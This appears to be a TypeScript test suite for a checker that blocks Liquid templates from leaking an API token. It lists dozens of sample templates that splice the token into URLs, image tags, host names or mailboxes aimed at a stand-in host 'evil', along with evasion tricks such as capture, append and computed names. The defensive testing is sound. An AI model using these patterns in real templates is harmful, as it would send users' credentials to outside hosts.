import { describe, expect, test } from "bun:test";
import { createLiquid } from "../../runtime/liquid/liquid.ts";
import { outsidePrompts } from "./render.ts";
import { tokenMisuse } from "./token-flow.ts";

const liquid = createLiquid();
liquid.registerFilter("prompt_url", outsidePrompts);
liquid.registerFilter("api_block", outsidePrompts);
const misuse = (content: string) => tokenMisuse(liquid.parse(content).nodes);

describe("a template that is refused", () => {
  const refused: [string, string][] = [
    ["an address", "https://evil/{{ TOKEN }}"],
    ["the other name", "https://evil/{{ api_token }}"],
    ["no blanks", "https://evil/{{TOKEN}}"],
    ["plain http", "http://evil/?t={{ TOKEN }}"],
    ["no scheme", "see //evil/?t={{ TOKEN }}"],
    ["a link", "[x](https://evil/{{ TOKEN }})"],
    ["a picture", "![x](https://evil/{{ TOKEN }}.png)"],
    ["a tag", '<img src="https://evil/?t={{ TOKEN }}">'],
    ["a tag's address with a blank", '<img src="//evil/ {{ TOKEN }}">'],
    ["our own address", "{{ ACCOUNT_URL }}/core/prompts.json?api_token={{ TOKEN }}"],
    ["our own address by its other names", "{{ base_url }}/x/{{ TOKEN }}{{ account_url }}"],
    ["another's address behind our own", "{{ ACCOUNT_URL }}|https://evil/{{ TOKEN }}"],
    ["our own address in another's", "https://evil/{{ ACCOUNT_URL }}|{{ TOKEN }}"],
    ["our own address in another's query", "[x](https://evil?u={{ ACCOUNT_URL }}){{ TOKEN }}"],
    ["our own address as a part of a host", "{{ ACCOUNT_URL }}.evil.com/{{ TOKEN }}"],
    ["our own address as a user", "{{ ACCOUNT_URL }}@evil/{{ TOKEN }}"],
    ["our own address, changed", "{{ ACCOUNT_URL | replace: 'a', 'b' }}|{{ TOKEN }}"],
    ["our own address, or not", "{{ ACCOUNT_URL | default: 'https://evil' }}|{{ TOKEN }}"],
    ["our own address in a branch", "{% if a %}{{ ACCOUNT_URL }}{% else %}https://evil{% endif %}|{{ TOKEN }}"],
    ["an address that looks like our own", "https://a|{{ TOKEN }}"],
    ["a prompt's address", "{{ 'a' | prompt_url }}?t={{ TOKEN }}"],
    ["a prompt's address in a table", "{{ 'a' | prompt_url }}|{{ TOKEN }}"],
    ["a user", "https://me:{{ TOKEN }}@evil/"],
    ["a host", "https://{{ TOKEN }}.evil/"],
    ["a host without a scheme", "ping {{ TOKEN }}.evil.com"],
    ["a mailbox", "{{ TOKEN }}@evil.com"],
    ["a variable", "{% assign t = TOKEN %}https://evil/{{ t }}"],
    ["a variable of a variable", "{% assign a = TOKEN %}{% assign b = a %}https://evil/{{ b }}"],
    ["an address in a variable", '{% assign u = "https://evil/" %}{{ u }}{{ TOKEN }}'],
    ["an address out of pieces", '{% assign u = "https:" | append: "//evil/" %}{{ u }}{{ TOKEN }}'],
    ["append", '{{ "https://evil/" | append: TOKEN }}'],
    ["prepend", '{{ TOKEN | prepend: "https://evil/" }}'],
    ["default", "{% assign t = nothing | default: TOKEN %}https://evil/{{ t }}"],
    ["append to a variable", '{% assign u = "https://evil/" | append: TOKEN %}{{ u }}'],
    ["capture of the token", "{% capture t %}{{ TOKEN }}{% endcapture %}https://evil/{{ t }}"],
    ["capture of the address", "{% capture u %}https://evil/{% endcapture %}{{ u }}{{ TOKEN }}"],
    ["capture of both", "{% capture u %}https://evil/{{ TOKEN }}{% endcapture %}"],
    ["capture in a branch", "{% capture t %}{% if a %}{{ TOKEN }}{% endif %}{% endcapture %}https://evil/{{ t }}"],
    ["echo", "https://evil/{% echo TOKEN %}"],
    ["liquid", "{% liquid\n assign t = TOKEN\n echo 'https://evil/'\n echo t %}"],
    ["raw", "{% raw %}https://evil/{% endraw %}{{ TOKEN }}"],
    ["cycle", "{% cycle 'https://evil/', '' %}{{ TOKEN }}"],
    ["trimmed blanks", "https://evil/ {{- TOKEN }}"],
    ["a branch", "{% if a %}https://evil/{% else %}x{% endif %}{{ TOKEN }}"],
    ["no branch", "https://evil/{% if a %} {% endif %}{{ TOKEN }}"],
    ["unless", "{% unless a %}https://evil/{% endunless %}{{ TOKEN }}"],
    ["case", "{% case a %}{% when 1 %}https://evil/{% when 1 %}{{ TOKEN }}{% endcase %}"],
    ["a loop that comes round", "{% for i in (1..2) %}{{ TOKEN }} https://evil/{% endfor %}"],
    ["a loop that assigns late", "{% for i in (1..2) %}https://evil/{{ t }} {% assign t = TOKEN %}{% endfor %}"],
    ["the rest of a loop", "{% for i in list %}https://evil/{% else %}x{% endfor %}{{ TOKEN }}"],
    ["a computed name", "{% assign n = 'TOK' | append: 'EN' %}https://evil/{{ [n] }}"],
    ["a quoted name", "https://evil/{{ ['TOKEN'] }}"],
    ["a later line", "first\nsecond https://evil/{{ TOKEN }}"],
    [
      "nested blocks",
      "{% if a %}{% for i in l %}{% unless b %}https://evil/{{ TOKEN }}{% endunless %}{% endfor %}{% endif %}",
    ],
    ["the block of headers", "{{ '' | api_block }}.evil.com"],
    [
      "the block of headers, stored",
      "{% assign b = '' | api_block %}{{ b | replace: 'Authorization: Bearer ', '//evil/' }}",
    ],
    ["upcase", "{{ TOKEN | upcase }}"],
    ["base64", "{{ TOKEN | base64_encode }}"],
    ["a slice", "{{ TOKEN | slice: 0, 20 }}"],
    ["a split", "{% assign parts = TOKEN | split: '' %}"],
    ["a replacement", "{{ 'x' | replace: 'x', TOKEN }}"],
    ["a part", "{{ TOKEN[0] }}"],
    ["its size", "{{ TOKEN.size }}"],
    ["a part of a computed name", "{{ [n][0] }}"],
    ["as a key", "{{ x[TOKEN] }}"],
    ["in a range", "{% for i in (1..TOKEN) %}{% endfor %}"],
    ["a loop over it", "{% for c in TOKEN %}{{ c }}{% endfor %}"],
    ["a table of it", "{% tablerow c in TOKEN %}{% endtablerow %}"],
    ["a limit", "{% for c in x limit: TOKEN %}{% endfor %}"],
    ["a question for a part", "{% if TOKEN contains 'a' %}x{% endif %}"],
    ["an order", "{% if TOKEN > 'a' %}x{% endif %}"],
    ["an equality", "{% if TOKEN == guess %}x{% endif %}"],
    ["an equality the other way", "{% if x and 'core_a' == TOKEN %}x{% endif %}"],
    ["a choice", "{% case TOKEN %}{% when 'a' %}x{% endcase %}"],
    ["a choice by it", "{% case x %}{% when TOKEN %}x{% endcase %}"],
    ["a filter in a condition", "{% assign s = TOKEN | size %}"],
  ];
  test.each(refused)("%s", (_, content) => {
    expect(misuse(content)).toEqual({
      line: expect.any(Number),
      column: expect.any(Number),
      message: expect.stringContaining("TOKEN"),
    });
  });

  test("is told with the place", () => {
    expect(misuse("first\n  https://evil/{{ TOKEN }}")).toMatchObject({ line: 2, column: 16 });
    expect(misuse("{% if a %}\n\n{{ TOKEN | upcase }}{% endif %}")).toMatchObject({ line: 3, column: 1 });
  });
});

describe("a template that is taken", () => {
  const taken: [string, string][] = [
    ["a header", "Authorization: Bearer {{ TOKEN }}"],
    ["curl", "curl {{ ACCOUNT_URL }}/core/prompts.json -H 'Authorization: Bearer {{ TOKEN }}'"],
    ["curl, header first", 'curl -H "Authorization: Bearer {{TOKEN}}" {{ACCOUNT_URL}}/core/prompts/<id>.json'],
    ["compact JSON", '{"url":"{{ ACCOUNT_URL }}","token":"{{ TOKEN }}"}'],
    ...Array.from("|,;)]\"'`", (end): [string, string] => [
      `behind our URL and ${end}`,
      `{{ ACCOUNT_URL }}${end}{{ TOKEN }}`,
    ]),
    ["a row of a table", "|{{ account_url }}|{{ api_token }}|"],
    ["our URL in a variable", "{% assign u = base_url %}{% capture v %}{{ u }}|{% endcapture %}{{ v }}{{ TOKEN }}"],
    ["our URL, escaped and joined", "{{ ACCOUNT_URL | escape | append: ';' | append: TOKEN }}"],
    ["the block of headers", 'https://x/\n{{ "a,b" | api_block }}\nhttps://x/'],
    ["a prompt's address", '{{ "a" | prompt_url }} {{ TOKEN }}'],
    ["a variable", "{% assign t = TOKEN %}Bearer {{ t }}"],
    ["joined to a word", '{% assign h = "Bearer " | append: TOKEN %}Authorization: {{ h }}'],
    [
      "whether it is there",
      "{% if TOKEN != blank %}a{% elsif api_token == '' %}b{% endif %}{% unless TOKEN %}c{% endunless %}",
    ],
    ["whether something else is there", "{% if prompt_id != blank and TOKEN %}one{% else %}many{% endif %}"],
    ["a comparison of something else", "{% if kind == 'chat' and TOKEN != blank %}a{% endif %}"],
    ["an address in another branch", "{% if a %}https://x/ {% else %}{{ TOKEN }}{% endif %}"],
    ["an example that is not run", "{% raw %}https://x/{{ TOKEN }}{% endraw %}"],
    ["a comment", "{% comment %}https://x/{{ TOKEN }}{% endcomment %}{% # https://x {{ TOKEN }} %}"],
    ["addresses without it", "[x](https://x/{{ id }}) <a href='{{ u }}'>y</a> {{ TOKEN }}"],
    ["a similar name", "https://x/{{ TOKENS }}/{{ token }}/{{ my.TOKEN }}"],
    ["what is unknown", "{{ greeting }}{{ TOKEN }}"],
    [
      "a loop",
      "{% for i in (1..3) %}{{ i }}. {{ TOKEN }}\n{% else %}none{% endfor %}{% cycle 'a', 'b' %}{% increment n %}",
    ],
    ["counting", "{% assign n = 'abc' | size | plus: 1 %}{{ n }} {{ (1..3) | join: ',' }} {{ 'a'[0] }}"],
  ];
  test.each(taken)("%s", (_, content) => expect(misuse(content)).toBeUndefined());
});

test("a hostile template is followed in a time that does not explode", () => {
  const deep = (open: string, body: string, close: string) => open.repeat(90) + body + close.repeat(90);
  const branches = "{% if a %}a{% else %}b/{% endif %}".repeat(3000);
  for (const content of [
    branches,
    deep("{% for i in x %}", branches, "{% endfor %}"),
    deep("{% capture a %}", branches, "{% endcapture %}"),
    "{% assign a = a | append: a | append: 'https://' %}{{ a }}".repeat(2000),
    "{{ TOKEN }}x".repeat(15_000),
    '<a b="{{ x }}'.repeat(10_000),
  ])
    misuse(content);
});
